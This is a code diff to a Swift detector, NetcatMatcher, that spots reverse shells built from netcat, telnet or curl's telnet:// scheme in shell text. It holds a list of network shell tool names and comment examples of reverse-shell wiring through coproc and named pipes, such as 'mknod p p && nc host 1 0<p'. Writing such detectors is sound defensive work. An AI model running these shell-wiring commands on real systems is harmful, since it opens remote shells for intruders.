@@ -3,7 +3,7 @@ import Bytes
 /// Netcat and its kin, telnet and curl's telnet, with a shell at the near end: run by the tool (`-e`, `-c`), in a pipe, or
 /// through a named pipe. Port checks (`-z`), transfers and relays have no shell and are none.
 enum NetcatMatcher {
-  private static let names = NameTable([
+  static let names = NameTable([
     "nc", "ncat", "netcat", "nc.exe", "ncat.exe", "nc64.exe", "nc.traditional", "nc.openbsd", "rcat", "rustcat",
     "pwncat",
     "cryptcat", "sbd", "dbd", "netcat.traditional", "netcat.openbsd",
@@ -20,7 +20,7 @@ enum NetcatMatcher {
     "--ssl-trustfile", "--ssl-ciphers", "--ssl-servername", "--ssl-alpn",
   ])
 
-  private static let telnets = NameTable(["telnet", "telnet.exe"])
+  static let telnets = NameTable(["telnet", "telnet.exe"])
 
   /// What a client costs grows with the text; a command line has a few.
   private static let maximumClients = 64
@@ -33,17 +33,15 @@ enum NetcatMatcher {
     // Commands with a client in them; where there is a named pipe, one is asked for.
     let users =
       shell.hasFIFO
-      ? shell.commands.lazy.filter { $0.words.contains { names.contains(ShellWords.baseName($0)) } }.prefix(2).count : 0
-    for (index, command) in shell.commands.enumerated() where found.count < 16 && clients < maximumClients {
-      for (place, word) in command.words.enumerated() where word.count <= 64 {
-        let name = ShellWords.baseName(word)
-        let isTelnet = telnets.contains(name)
-        guard isTelnet || names.contains(name) else { continue }
-        clients += 1
-        if let one = isTelnet ? telnet(shell, index, place, users) : netcat(shell, index, place, users) {
-          found.append(one)
-        }
-        if clients >= maximumClients { break }
+      ? Set(shell.tools.lazy.filter { names.contains(shell.name($0)) }.map(\.command).prefix(maximumClients)).count : 0
+    for tool in shell.tools where found.count < 16 && clients < maximumClients {
+      let (index, place) = tool
+      let name = shell.name(tool)
+      let isTelnet = telnets.contains(name)
+      guard isTelnet || names.contains(name), shell.commands[index].words[place].count <= 64 else { continue }
+      clients += 1
+      if let one = isTelnet ? telnet(shell, index, place, users) : netcat(shell, index, place, users) {
+        found.append(one)
       }
     }
     if shell.signs.hasTelnet, let one = curlTelnet(shell) { found.append(one) }
@@ -117,13 +115,15 @@ enum NetcatMatcher {
         } else if letters.array.last == 0x70 {
           result.listenPort = next
           index += 1
-        } else if "wsixXqoIOTm".utf8.contains(letters.array.last ?? 0), letters.count <= 4, next[0] != 0x2D,
+        } else if isAny(letters.array.last ?? 0, of: "wsixXqoIOTm"), letters.count <= 4, next[0] != 0x2D,
           Endpoint.isPort(next)
         {
           index += 1
         }
       } else if ShellWords.isRedirection(word) {
         let isLone = ShellWords.isLoneRedirection(word)
+        // `nc host 4242>/tmp/f`: meant as the port, whatever a shell makes of it.
+        if let end = word.firstIndex(of: 0x3E), end >= 2, end <= 5 { result.positional.append(word.slice(0, end)) }
         let isInput = word[0] == 0x3C || word.hasPrefix("0<")
         if isInput { result.input = isLone ? next : word }
         if isLone { index += 1 }
@@ -165,7 +165,11 @@ enum NetcatMatcher {
 
   /// `coproc nc host 1; exec sh <&${COPROC[0]} >&${COPROC[1]}`
   private static func isCoprocess(_ shell: ShellText, _ index: Int, _ place: Int) -> Bool {
-    place > 0 && shell.commands[index].words[0] == "coproc" && shell.text.contains("COPROC[") && shell.hasFreeShell
+    guard shell.hasCoprocess else { return false }
+    if place > 0, shell.commands[index].words[0] == "coproc" { return shell.hasFreeShell }
+    // `coproc sh; nc host 1 <&${COPROC[0]} >&${COPROC[1]}`
+    return shell.commands[index].words.contains { $0.contains("COPROC[") }
+      && shell.commands.contains { $0.word(0) == "coproc" && ShellWords.isShell($0.word(1)) }
   }
 
   /// A client, the only one, whose input is the named pipe: `mknod p p && nc host 1 0<p`.
@@ -217,7 +221,7 @@ enum NetcatMatcher {
   private static func curlTelnet(_ shell: ShellText) -> ShellMatch? {
     guard let place = shell.text.firstIndex(of: ByteView("telnet://")), shell.hasPipedShell else { return nil }
     var end = place
-    while end < shell.text.count, end - place < 300, !" '\"|;\n\t<>".utf8.contains(shell.text[end]) { end += 1 }
+    while end < shell.text.count, end - place < 300, !isAny(shell.text[end], of: " '\"|;\n\t<>") { end += 1 }
     guard let endpoint = Endpoint.pair(shell.text.slice(place, end)) else { return nil }
     return ShellMatch(technique: "telnet", endpoint: endpoint, place: place)
   }
